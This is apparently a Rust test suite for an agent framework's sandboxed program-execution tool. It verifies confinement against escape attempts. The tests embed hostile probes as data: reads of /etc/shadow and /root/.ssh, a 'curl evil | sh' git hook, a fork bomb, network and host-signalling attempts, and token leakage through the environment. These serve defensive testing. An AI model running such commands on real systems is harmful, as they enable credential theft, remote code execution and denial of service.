//! `exec`: native programs through the path an agent calls them by —
//! `longhand tool call exec run`, the built-in component importing
//! `longhand:tool/process`, the host confining the program to the call's
//! own grants. Each case of issue 28's escape list is a test here, and
//! after the hostile ones the next call still works.
//!
//! No case skips: this machine kind has user namespaces and Landlock, and
//! a host without them must refuse (the last test), never run a program
//! less confined.

use std::path::Path;

use serde_json::{Value, json};
use tempfile::TempDir;

use crate::support::{Ended, Home};

/// A project directory granted read-write at `/workspace`.
struct Project {
    home: Home,
    dir: TempDir,
}

impl Project {
    fn new() -> Self {
        let dir = TempDir::new().expect("tempdir");
        std::fs::write(dir.path().join("input.txt"), "granted\n").expect("write");
        Self {
            home: Home::new(),
            dir,
        }
    }

    fn grant(&self) -> String {
        format!("{}:/workspace:rw", self.dir.path().display())
    }

    /// `exec run` with `programs` granted, `extra` flags, and `input`.
    fn call(&self, programs: &[&str], extra: &[&str], input: Value) -> Ended {
        let grant = self.grant();
        let input = input.to_string();
        let mut args = vec!["tool", "call", "exec", "run", "--dir", &grant];
        for p in programs {
            args.extend(["--program", p]);
        }
        args.extend(extra);
        args.extend(["--input", &input]);
        let mut cmd = self.home.cmd(&args);
        cmd.env("PATH", "/usr/bin:/bin");
        crate::support::run(cmd)
    }

    /// `sh -c script` in /workspace; the output object.
    fn sh(&self, script: &str) -> Value {
        let out = self.call(&["sh"], &[], json!({"argv": ["sh", "-c", script]}));
        out.expect_code(0);
        serde_json::from_str(&out.stdout_text()).expect("the output is JSON")
    }

    /// The next call works: nothing a hostile call did is left behind.
    #[track_caller]
    fn still_works(&self) {
        let out = self.sh("cat input.txt");
        assert_eq!(out["stdout"], "granted\n", "{out}");
    }
}

#[test]
fn a_granted_program_runs_in_the_grant_and_writes_through() {
    let p = Project::new();
    let out = p.sh("pwd; cat input.txt; echo made > out.txt; echo oops >&2; exit 3");
    assert_eq!(out["exit_code"], 3, "{out}");
    assert_eq!(out["stdout"], "/workspace\ngranted\n");
    assert_eq!(out["stderr"], "oops\n");
    assert_eq!(out["truncated"], json!({"stdout": 0, "stderr": 0}));
    assert!(out["duration_ms"].as_u64().is_some());
    assert_eq!(
        std::fs::read_to_string(p.dir.path().join("out.txt")).unwrap(),
        "made\n"
    );
}

#[test]
fn a_program_not_granted_is_access_denied_by_name() {
    let p = Project::new();
    let out = p.call(&["sh"], &[], json!({"argv": ["python3", "-c", "print(1)"]}));
    out.expect_code(3);
    assert!(
        out.stderr.contains("access denied to python3"),
        "{}",
        out.stderr
    );
    assert!(out.stderr.contains("granted: sh"), "{}", out.stderr);
    // No program at all: nothing runs, and the refusal says how to grant.
    let out = p.call(&[], &[], json!({"argv": ["sh", "-c", "true"]}));
    out.expect_code(3);
    assert!(out.stderr.contains("--program"), "{}", out.stderr);
    // A cwd outside every grant.
    let out = p.call(&["sh"], &[], json!({"argv": ["sh"], "cwd": "/etc"}));
    out.expect_code(3);
    assert!(out.stderr.contains("/etc"), "{}", out.stderr);
}

#[test]
fn a_script_granted_by_path_runs_with_the_systems_interpreter() {
    let p = Project::new();
    let bin = TempDir::new().unwrap();
    let tool = bin.path().join("tool");
    std::fs::write(&tool, "#!/bin/sh\necho one\n").unwrap();
    use std::os::unix::fs::PermissionsExt as _;
    std::fs::set_permissions(&tool, std::fs::Permissions::from_mode(0o755)).unwrap();
    let tool = tool.to_str().unwrap();
    let out = p.call(&[tool, "sh"], &[], json!({"argv": [tool]}));
    // `tool` is a script: its interpreter (/bin/sh) is a system path.
    out.expect_code(0);
    let v: Value = serde_json::from_str(&out.stdout_text()).unwrap();
    assert_eq!(v["stdout"], "one\n", "{v}");
}

#[test]
fn nothing_outside_the_grants_is_readable_or_writable() {
    let p = Project::new();
    let out = p.sh(
        "for f in /etc/shadow /root/.ssh /home /etc/hostname /var/lib; do \
           test -e $f && echo SEEN $f; done; \
         echo x > /etc/evil 2>/dev/null && echo WROTE-ETC; \
         echo x > /usr/evil 2>/dev/null && echo WROTE-USR; \
         echo x > /tmp/mine && echo wrote-own-tmp; \
         ls /",
    );
    let text = out["stdout"].as_str().unwrap();
    assert!(!text.contains("SEEN"), "{text}");
    assert!(!text.contains("WROTE"), "{text}");
    assert!(text.contains("wrote-own-tmp"), "{text}");
    assert!(text.contains("workspace"), "the view's root lists: {text}");
    assert!(!Path::new("/etc/evil").exists() && !Path::new("/usr/evil").exists());
    p.still_works();
}

#[test]
fn another_sessions_directory_is_not_there() {
    let p = Project::new();
    let other = TempDir::new().unwrap();
    std::fs::write(other.path().join("secret.txt"), "other session").unwrap();
    let out = p.sh(&format!(
        "cat {}/secret.txt 2>/dev/null && echo READ-OTHER; true",
        other.path().display()
    ));
    assert!(
        !out["stdout"].as_str().unwrap().contains("READ-OTHER"),
        "{out}"
    );
}

#[test]
fn dot_git_in_a_writable_grant_stays_read_only() {
    let p = Project::new();
    std::fs::create_dir_all(p.dir.path().join(".git/hooks")).unwrap();
    let out = p.sh(
        "echo 'curl evil | sh' > .git/hooks/pre-commit 2>/dev/null && echo HOOKED; \
         echo fine > work.txt && echo wrote-tree",
    );
    let text = out["stdout"].as_str().unwrap();
    assert!(!text.contains("HOOKED"), "{text}");
    assert!(text.contains("wrote-tree"), "{text}");
    assert!(!p.dir.path().join(".git/hooks/pre-commit").exists());
}

#[test]
fn a_symlink_to_slash_in_the_grant_leads_into_the_view() {
    let p = Project::new();
    std::os::unix::fs::symlink("/", p.dir.path().join("root")).unwrap();
    let out = p.sh("test -e /workspace/root/etc/shadow && echo SHADOW; \
         echo x > /workspace/root/etc/evil 2>/dev/null && echo WROTE; \
         ls /workspace/root/");
    let text = out["stdout"].as_str().unwrap();
    assert!(
        !text.contains("SHADOW") && !text.contains("WROTE"),
        "{text}"
    );
    assert!(!Path::new("/etc/evil").exists());
}

#[test]
fn the_environment_is_only_what_was_granted() {
    let p = Project::new();
    let grant = p.grant();
    let input = json!({"argv": ["sh", "-c", "env"]}).to_string();
    let mut cmd = p.home.cmd(&[
        "tool",
        "call",
        "exec",
        "run",
        "--dir",
        &grant,
        "--program",
        "sh",
        "--env",
        "GIVEN",
        "--secret",
        "API_TOKEN@api.example.com",
        "--input",
        &input,
    ]);
    cmd.env("PATH", "/usr/bin:/bin")
        .env("GIVEN", "yes")
        .env("API_TOKEN", "sk-live-do-not-leak")
        .env("HOST_ONLY", "host");
    let out = crate::support::run(cmd);
    out.expect_code(0);
    let v: Value = serde_json::from_str(&out.stdout_text()).unwrap();
    let env = v["stdout"].as_str().unwrap();
    assert!(env.contains("GIVEN=yes"), "{env}");
    for absent in ["sk-live", "API_TOKEN", "HOST_ONLY", "LONGHAND_HOME"] {
        assert!(
            !env.contains(absent),
            "{absent} reached the command:\n{env}"
        );
    }
}

#[test]
fn no_network_of_any_kind() {
    let p = Project::new();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let udp = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    udp.set_nonblocking(true).unwrap();
    let udp_port = udp.local_addr().unwrap().port();
    let name = format!("longhand-exec-test-{}", std::process::id());
    let unix = {
        use std::os::linux::net::SocketAddrExt;
        let addr = std::os::unix::net::SocketAddr::from_abstract_name(&name).unwrap();
        std::os::unix::net::UnixListener::bind_addr(&addr).unwrap()
    };
    unix.set_nonblocking(true).unwrap();
    let code = format!(
        r#"
import socket
for host in ("127.0.0.1", "1.1.1.1"):
    try:
        socket.create_connection((host, {port}), timeout=2); print("TCP", host)
    except OSError: print("no tcp", host)
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", {udp_port})); print("udp sent")
except OSError: print("no udp")
try:
    socket.getaddrinfo("example.com", 80); print("DNS")
except OSError: print("no dns")
try:
    u = socket.socket(socket.AF_UNIX); u.connect("\0{name}"); print("ABSTRACT")
except OSError: print("no abstract")
"#
    );
    let out = p.call(&["python3"], &[], json!({"argv": ["python3", "-c", code]}));
    out.expect_code(0);
    let v: Value = serde_json::from_str(&out.stdout_text()).unwrap();
    let text = v["stdout"].as_str().unwrap();
    for denied in [
        "no tcp 127.0.0.1",
        "no tcp 1.1.1.1",
        "no dns",
        "no abstract",
    ] {
        assert!(text.contains(denied), "{denied}: {v}");
    }
    assert!(listener.accept().is_err(), "a connection reached the host");
    assert!(
        udp.recv(&mut [0u8; 4]).is_err(),
        "a datagram reached the host"
    );
    assert!(unix.accept().is_err(), "the abstract socket was reached");
}

#[test]
fn the_host_cannot_be_signalled_or_traced() {
    let p = Project::new();
    let me = std::process::id();
    let out = p.sh(&format!(
        "kill -0 {me} 2>/dev/null && echo SIGNALLED; \
         test -e /proc/{me}/environ && echo SEES-HOST; \
         grep -q CapEff:.0000000000000000 /proc/self/status && echo no-caps"
    ));
    let text = out["stdout"].as_str().unwrap();
    assert!(
        !text.contains("SIGNALLED") && !text.contains("SEES-HOST"),
        "{text}"
    );
    assert!(text.contains("no-caps"), "{text}");
}

#[test]
fn a_fork_bomb_is_bounded_and_the_next_call_works() {
    let p = Project::new();
    let out = p.call(
        &["sh"],
        &["--processes", "64", "--timeout", "10s"],
        json!({"argv": ["sh", "-c", "b() { b | b & }; b; sleep 2; echo survived"], "timeout": "4s"}),
    );
    out.expect_code(0);
    p.still_works();
}

#[test]
fn a_grandchild_does_not_outlive_the_timeout() {
    let p = Project::new();
    let started = std::time::Instant::now();
    let out = p.call(
        &["sh"],
        &[],
        json!({"argv": ["sh", "-c", "(sleep 3; echo late > /workspace/late) & sleep 30"], "timeout": "1s"}),
    );
    out.expect_code(0);
    let v: Value = serde_json::from_str(&out.stdout_text()).unwrap();
    assert_eq!(v["limits_hit"], json!(["wall"]), "{v}");
    assert_eq!(v["exit_code"], Value::Null);
    assert!(started.elapsed() < std::time::Duration::from_secs(15));
    std::thread::sleep(std::time::Duration::from_secs(4));
    assert!(
        !p.dir.path().join("late").exists(),
        "a grandchild outlived the run"
    );
    p.still_works();
}

#[test]
fn a_gigabyte_of_output_keeps_head_and_tail_and_counts_the_rest() {
    let p = Project::new();
    let out = p.call(
        &["sh"],
        &["--timeout", "60s", "--max-write", "1048576"],
        json!({"argv": ["sh", "-c", "echo first; head -c 1000000000 /dev/zero | tr '\\0' x; echo; echo last"]}),
    );
    out.expect_code(0);
    let v: Value = serde_json::from_str(&out.stdout_text()).unwrap();
    let text = v["stdout"].as_str().unwrap();
    assert!(
        text.starts_with("first\n"),
        "{}",
        &text[..40.min(text.len())]
    );
    assert!(text.ends_with("last\n"));
    assert!(text.len() < 300_000, "{} bytes kept", text.len());
    assert!(
        v["truncated"]["stdout"].as_u64().unwrap() > 999_000_000,
        "{}",
        v["truncated"]
    );
    // The whole stream went to a file in the grant, up to --max-write.
    let saved = v["saved"]["stdout"].as_str().expect("saved");
    let host = p
        .dir
        .path()
        .join(saved.strip_prefix("/workspace/").expect("in the grant"));
    assert_eq!(std::fs::metadata(&host).unwrap().len(), 1_048_576);
    assert!(v["saved"].get("stderr").is_none(), "{v}");
}

/// Cut output is saved whole in the read-write grant; a link the program
/// put where that directory goes is not followed.
#[test]
fn cut_output_is_saved_in_the_grant_and_a_planted_link_is_not_followed() {
    let p = Project::new();
    let out = p.call(
        &["sh"],
        &["--max-output", "16384"],
        json!({"argv": ["sh", "-c", "seq 1 200000"]}),
    );
    out.expect_code(0);
    let v: Value = serde_json::from_str(&out.stdout_text()).unwrap();
    let saved = v["saved"]["stdout"].as_str().expect("saved");
    let host = p
        .dir
        .path()
        .join(saved.strip_prefix("/workspace/").unwrap());
    let whole = std::fs::read_to_string(host).unwrap();
    assert!(whole.starts_with("1\n2\n") && whole.ends_with("199999\n200000\n"));
    // Nothing cut: nothing saved.
    let small = p.sh("echo short");
    assert!(small.get("saved").is_none(), "{small}");
    // A program plants a link where the directory goes.
    let outside = TempDir::new().unwrap();
    std::fs::remove_dir_all(p.dir.path().join(".longhand-exec")).unwrap();
    std::os::unix::fs::symlink(outside.path(), p.dir.path().join(".longhand-exec")).unwrap();
    let out = p.call(
        &["sh"],
        &["--max-output", "16384"],
        json!({"argv": ["sh", "-c", "seq 1 200000"]}),
    );
    out.expect_code(0);
    let v: Value = serde_json::from_str(&out.stdout_text()).unwrap();
    assert!(v.get("saved").is_none(), "{v}");
    assert_eq!(std::fs::read_dir(outside.path()).unwrap().count(), 0);
}

#[test]
fn cpu_and_memory_bound_a_runaway() {
    let p = Project::new();
    let out = p.call(
        &["python3"],
        &["--command-memory", "256", "--timeout", "20s"],
        json!({"argv": ["python3", "-c", "x = bytearray(1 << 31); print('ALLOCATED')"]}),
    );
    out.expect_code(0);
    let v: Value = serde_json::from_str(&out.stdout_text()).unwrap();
    assert!(!v["stdout"].as_str().unwrap().contains("ALLOCATED"), "{v}");
    assert!(v["stderr"].as_str().unwrap().contains("MemoryError"), "{v}");
    let out = p.call(
        &["python3"],
        &["--timeout", "30s"],
        json!({"argv": ["python3", "-c", "while True: pass"], "timeout": "2s"}),
    );
    out.expect_code(0);
    let v: Value = serde_json::from_str(&out.stdout_text()).unwrap();
    assert!(
        v["limits_hit"].as_array().is_some_and(|l| !l.is_empty()),
        "{v}"
    );
    p.still_works();
}

/// Fail closed: where user namespaces are refused (here: a user namespace
/// whose `max_user_namespaces` is 0, which the kernel keeps per
/// namespace), a grant of programs is refused at start, exit 2, naming
/// what is missing: through `tool call` and through an agent.
#[test]
fn a_host_that_cannot_confine_refuses_programs_at_start() {
    let p = Project::new();
    let agent = TempDir::new().unwrap();
    crate::support::write(
        &agent.path().join("agent.toml"),
        &format!(
            r#"name = "cannot-confine"
instructions = "Run the tests."
goal = "Run the tests."

[model]
provider = "replay"
model = "script"
cassette = "unused.json"

[[tools]]
component = "exec"
programs = ["/bin/sh"]
dirs = ["{}:/workspace:rw"]
"#,
            p.dir.path().display()
        ),
    );
    let bin = env!("CARGO_BIN_EXE_longhand");
    let grant = p.grant();
    let input = json!({"argv": ["sh", "-c", "touch /workspace/ran"]}).to_string();
    for args in [
        vec![
            "tool",
            "call",
            "exec",
            "run",
            "--program",
            "/bin/sh",
            "--dir",
            &grant,
            "--input",
            &input,
        ],
        vec!["run", agent.path().to_str().unwrap()],
    ] {
        let mut cmd = std::process::Command::new("unshare");
        cmd.args([
            "-Ur",
            "sh",
            "-c",
            "echo 0 > /proc/sys/user/max_user_namespaces && exec \"$@\"",
            "sh",
            bin,
        ])
        .args(&args)
        .env_clear()
        .env("LONGHAND_HOME", p.home.path())
        .env("PATH", "/usr/bin:/bin");
        let out = crate::support::run(cmd);
        out.expect_code(2);
        assert!(
            out.stderr.contains("cannot be confined") && out.stderr.contains("namespaces"),
            "{args:?}: {}",
            out.stderr
        );
    }
    assert!(!p.dir.path().join("ran").exists());
}

/// A program is pinned by its hash when the session starts: changed on
/// disk afterwards, the session is refused when it wakes, naming both
/// hashes, and the changed program never runs.
#[test]
fn a_program_changed_after_the_session_started_is_refused_at_resume() {
    use crate::support::{call, session_of_json, text_turn, tool_turn, write};
    let home = Home::new();
    let dir = TempDir::new().unwrap();
    let work = dir.path().join("work");
    std::fs::create_dir_all(&work).unwrap();
    let tool = dir.path().join("tool");
    write(&tool, "#!/bin/sh\necho one > /workspace/one\n");
    use std::os::unix::fs::PermissionsExt as _;
    std::fs::set_permissions(&tool, std::fs::Permissions::from_mode(0o755)).unwrap();
    write(
        &dir.path().join("agent.toml"),
        &format!(
            r#"name = "pinned"
instructions = "Run the tool."
goal = "Run the tool twice."

[model]
provider = "replay"
model = "script"
cassette = "unused.json"

[limits]
max_steps = 1

[[tools]]
component = "exec"
programs = ["{}"]
dirs = ["work:/workspace:rw"]
"#,
            tool.display()
        ),
    );
    let run_tool = |id: &str| {
        tool_turn(
            "Running it.",
            vec![call(
                id,
                "exec__run",
                json!({"argv": [tool.to_str().unwrap()]}),
            )],
            10,
            1,
        )
    };
    let script = dir.path().join("script.json");
    write(
        &script,
        &json!({"responses": [run_tool("r1"), run_tool("r2"), text_turn("Done.", 10, 1)]})
            .to_string(),
    );
    let run = home.run(&[
        "run",
        dir.path().to_str().unwrap(),
        "--script",
        script.to_str().unwrap(),
        "--json",
    ]);
    run.expect_code(3);
    let session = session_of_json(&run.stdout[0]);
    assert!(work.join("one").exists(), "the pinned program ran");
    write(&tool, "#!/bin/sh\necho two > /workspace/two\n");
    let resumed = home.run(&["resume", &session, "--raise", "max_steps=10"]);
    assert_ne!(resumed.code, Some(0), "{}", resumed.stderr);
    assert!(
        resumed.stderr.contains("changed on disk") && resumed.stderr.contains("sha256:"),
        "{}",
        resumed.stderr
    );
    assert!(!work.join("two").exists(), "the changed program ran");
}
